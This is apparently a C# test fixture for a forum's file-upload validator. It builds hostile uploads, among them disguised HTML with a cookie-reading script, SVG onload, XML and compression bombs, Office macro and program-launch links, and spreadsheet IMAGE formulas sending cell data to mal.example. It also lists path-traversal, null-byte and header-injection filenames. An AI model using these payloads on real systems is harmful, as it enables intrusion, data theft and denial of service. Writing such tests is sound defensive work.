using System.IO.Compression;
using System.Text;
using Forum.Tests.Pictures;
using ImageMagick;

namespace Forum.Tests.Files;

/// <summary>More files that somebody might send, each as a whole upload: its name, what the browser says it is, its bytes. The reason it must be refused for; empty: it may be kept, made harmless.</summary>
internal static class Nasty
{
    /// <summary>What no kept byte may still say.</summary>
    public const string Mark = "Zibeline48.3N";

    public sealed record Case(string What, string Name, string Type, Func<byte[]> Bytes, string Refused);

    private const string Page = "<!DOCTYPE html><html><script>alert(document.cookie)</script></html>";

    public static IReadOnlyList<Case> All { get; } =
    [
        new("a page that says it is a PNG", "photo.png", "image/png", () => Some.Bytes(Page), "web_page"),
        new("a PNG that says it is a page", "photo.html", "text/html", () => Sample.Png(), ""),
        new("a packed drawing that says it is a PNG", "dessin.png", "image/png", () => Gzip("<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>"), "unknown_kind"),
        new("a PDF that becomes a page after its first thousand bytes", "guide.pdf", "text/html", () => Some.Pdf("% " + new string('x', 2_000) + "\n" + Page), ""),
        new("a PDF whose drawing in space holds a script", "guide.pdf", "application/pdf", () => Some.Pdf("3 0 obj\n<</Type/3D/Subtype/U3D/OnInstantiate 4 0 R>>\nendobj"), "active_pdf"),
        new("a PDF with a film of the older kind", "guide.pdf", "application/pdf", () => Some.Pdf("3 0 obj\n<</S/Movie/T(x)>>\nendobj"), "active_pdf"),
        new("a photo in WebP that says where it was taken", "photo.webp", "image/webp", Placed, ""),
        new("a photo of an iPhone in its own kind that says where it was taken", "IMG_0001.HEIC", "image/heic", () => [0, 0, 0, 24, .. Some.Bytes("ftypheic\0\0\0\0mif1heic"), 0, 0, 0, 40, .. Some.Bytes("meta" + Mark), .. new byte[64]], "unknown_kind"),
        new("a sound that says where and by whom", "memo.m4a", "audio/mp4", () => Some.M4a(said: Mark), ""),
        new("a GIF of hundreds of huge pictures", "anime.gif", "image/gif", () => Frames(3_000, 300), ""),
        new("a PNG whose text becomes enormous", "photo.png", "image/png", () => Sample.Png(more: [("zTXt", [.. Some.Bytes("Comment\0\0"), .. Sample.Packed(1_000_000, 500)])]), ""),
        new("a JPEG of thousands of passes", "photo.jpg", "image/jpeg", () => Passes(3_000), "damaged"),
        new("a Word document of a million authors", "plan.docx", "application/msword", () => Some.Docx(more: ("docProps/app.xml", Authors(1_000_000))), "bomb"),
        new("a Word document in a Word document in a Word document", "plan.docx", "application/zip", () => Some.Docx(more: ("word/embeddings/a.docx", Latin(Some.Docx(more: ("word/embeddings/b.docx", Latin(Some.Docx(more: ("word/media/vide.txt", new string('0', 40_000_000))))))))), "active_office"),
        new("an OpenDocument whose link starts a macro", "plan.odt", "application/vnd.oasis.opendocument.text", () => Some.OpenDocument(body: "<a xlink:href=\"macro:///Standard.Module1.Main\">ici</a>"), "fetches"),
        new("an OpenDocument whose link starts a script of its program", "plan.odt", "application/vnd.oasis.opendocument.text", () => Some.OpenDocument(body: "<a xlink:href=\"vnd.sun.star.script:pythonSamples|TableSample.py$createTable?language=Python&amp;location=share\">ici</a>"), "fetches"),
        new("slides that start a program where the mouse passes", "midi.pptx", "application/vnd.ms-powerpoint", () => Some.Pptx(("ppt/slides/slide1.xml", "<p:sld xmlns:p=\"p\" xmlns:a=\"a\" xmlns:r=\"r\"><a:hlinkMouseOver r:id=\"r1\" action=\"ppaction://program\"/></p:sld>"), ("ppt/slides/_rels/slide1.xml.rels", Some.Relation("hyperlink", "calc.exe"))), "active_office"),
        new("an Excel workbook whose cell fetches a picture", "budget.xlsx", "text/csv", () => Some.Xlsx(("xl/worksheets/sheet1.xml", "<worksheet><c><f>_xlfn.IMAGE(\"https://mal.example/?x=\"&amp;A1)</f></c></worksheet>")), "fetches"),
        new("a table whose cell fetches a picture", "liste.csv", "text/csv", () => Some.Bytes("nom,photo\nLuc,\"=IMAGE(\"\"https://mal.example/?x=\"\"&A1)\"\n"), "formula"),
        new("an Excel workbook of a billion laughs", "budget.xlsx", "application/zip", () => Some.Xlsx(("xl/sharedStrings.xml", "<!DOCTYPE x [<!ENTITY a \"rire\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\">]><x>&c;</x>")), "damaged"),
    ];

    /// <summary>Names as a form may carry them, and what the file may be called.</summary>
    public static IReadOnlyList<(string Sent, string Kept)> Names { get; } =
    [
        ("../../../../var/www/index.png", "index.png"),
        ("..\\..\\Windows\\System32\\calc.exe", "calc.png"),
        ("/etc/passwd\0.png", "passwd.png"),
        ("facture\u202Egnp.exe", "facturegnp.png"),
        ("\u2066\u200B\uFEFF", "fichier.png"),
        ("a\r\nContent-Type: text/html\r\n\r\n<script>.png", "html-0D-0A-0D-0A-script-.png"),
        ("x\";filename=\"y.html", "x.png"),
        ("com7.png", "com7-.png"),
        ("LPT9.compte-rendu.png", "LPT9-.compte-rendu.png"),
        (".htaccess", "htaccess.png"),
        ("photo.php.png", "photo.php.png"),
        (new string('w', 4_000) + ".png", new string('w', 96) + ".png"),
        (string.Concat(Enumerable.Repeat("e\u0301\u0323\u0331", 200)) + ".png", ""),
    ];

    private static byte[] Gzip(string text)
    {
        using var packed = new MemoryStream();
        using (var gzip = new GZipStream(packed, CompressionLevel.Fastest, true)) gzip.Write(Some.Bytes(text));
        return packed.ToArray();
    }

    private static string Latin(byte[] bytes) => Encoding.Latin1.GetString(bytes);

    private static byte[] Placed()
    {
        using var image = new MagickImage(Sample.WebP(), MagickFormat.WebP);
        var exif = new ExifProfile();
        exif.SetValue(ExifTag.GPSLatitude, [new Rational(48), new Rational(18), new Rational(1)]);
        exif.SetValue(ExifTag.Artist, Mark);
        image.SetProfile(exif);
        image.SetProfile(new XmpProfile(Encoding.UTF8.GetBytes($"<x:xmpmeta xmlns:x=\"adobe:ns:meta/\"><rdf:RDF xmlns:rdf=\"http://www.w3.org/1999/02/22-rdf-syntax-ns#\"><rdf:Description rdf:about=\"{Mark}\"/></rdf:RDF></x:xmpmeta>")));
        image.Format = MagickFormat.WebP;
        var file = image.ToByteArray();
        Assert.That(Latin(file), Does.Contain(Mark));
        return file;
    }

    /// <summary>Each picture fills the whole screen, and is two colours.</summary>
    private static byte[] Frames(uint side, int count)
    {
        using var image = new MagickImage(Sample.Jpeg((int)side, (int)side), MagickFormat.Jpeg) { Format = MagickFormat.Gif };
        var file = image.ToByteArray();
        var first = file.AsSpan().IndexOf((ReadOnlySpan<byte>)[0x2C, 0, 0, 0, 0, (byte)side, (byte)(side >> 8)]);
        Assert.That(first, Is.GreaterThan(0));
        return [.. file[..^1], .. Enumerable.Repeat(file[first..^1], count - 1).SelectMany(p => p), 0x3B];
    }

    /// <summary>The last pass of a picture that comes in passes, again and again.</summary>
    private static byte[] Passes(int more)
    {
        using var image = new MagickImage(Sample.Jpeg(4_000, 3_000), MagickFormat.Jpeg) { Format = MagickFormat.Jpeg };
        image.Settings.Interlace = Interlace.Jpeg;
        var file = image.ToByteArray();
        var last = file.AsSpan().LastIndexOf((ReadOnlySpan<byte>)[0xFF, 0xDA]);
        Assert.That(file.AsSpan().IndexOf((ReadOnlySpan<byte>)[0xFF, 0xC2]), Is.GreaterThan(0), "it comes in passes");
        return [.. file[..^2], .. Enumerable.Repeat(file[last..^2], more).SelectMany(p => p), 0xFF, 0xD9];
    }

    private static string Authors(int count)
    {
        var xml = new StringBuilder("<Properties xmlns=\"http://schemas.openxmlformats.org/officeDocument/2006/extended-properties\">");
        for (var n = 0; n < count; n++) xml.Append("<Company>").Append((n * 7919L) % 999_983).Append("</Company>");
        return xml.Append("</Properties>").ToString();
    }
}
